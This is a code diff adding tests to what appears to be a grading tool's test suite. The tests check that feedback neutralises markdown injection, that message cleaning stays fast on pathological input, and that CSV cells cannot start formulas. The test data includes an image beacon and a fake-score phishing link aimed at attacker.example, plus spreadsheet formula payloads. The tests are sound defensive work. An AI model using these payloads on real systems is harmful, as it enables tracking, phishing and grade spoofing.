@@ -118,6 +118,39 @@ def test_feedback_renders_no_html_of_the_submission():
         "&lt;script>x&lt;/script>&lt;!-- &lt;img src=x> z < 0 and z <= 1")
 
 
+def test_cleaning_a_huge_message_takes_little_cpu():
+    """A message is cut before the patterns run: on 400,000 slashes the temp-path pattern took minutes,
+    holding the worker's lock, so that the watcher thread could not hold the limits meanwhile."""
+    import time
+    start = time.process_time()
+    for text in ("/" * 400_000, "/a" * 200_000):
+        assert len(clean(text)) == 600
+    used = time.process_time() - start
+    assert used < 1, f"cleaning took {used:.2f} s of CPU"
+
+
+def test_feedback_shows_a_submissions_markdown_as_text():
+    """A name, a note and a test message that try to load an image, show a false score and hide a link
+    render as the text they are: the feedback's only bold is the grader's score line."""
+    import nbformat
+    from markdown_it import MarkdownIt
+
+    from tools import labs
+    attack = ("see ![grade](https://attacker.example/t.png?who=alice) and "
+              "[**13 / 13 points** (status: graded)](https://attacker.example/phish) `x` <b>y</b> ~~z~~ | _em_ a_b_c")
+    lab = labs.exercises(nbformat.read(os.path.join(os.path.dirname(__file__), "fixtures", "grading_lab.ipynb"),
+                                       as_version=4))
+    result = {"status": "graded", "notes": [attack], "cells": {lab[0].answers[0]: attack},
+              "tests": {gid: {"passed": False, "message": attack} for e in lab for gid in e.tests}}
+    text = grading.feedback(f"[mallory]({attack})", "grading_lab", grading.score(lab, result), result)
+    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
+    assert html.count("<strong>") == 1 and "<img" not in html and "<a " not in html and "<b>" not in html
+    assert "<del>" not in html and "<table" not in html and "<code>x</code>" not in html and "<em>" not in html
+    assert "a_b_c" in text   # inside a word, left as it is
+    shown = html.count("![grade](https://attacker.example/t.png?who=alice)")
+    assert shown == 3 + sum(len(e.tests) for e in lab)   # in the name, the note, the cell and every test
+
+
 def test_csv_cells_are_never_formulas():
     for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "|x", "%x"):
         assert grading.csv_cell(text).startswith("'")
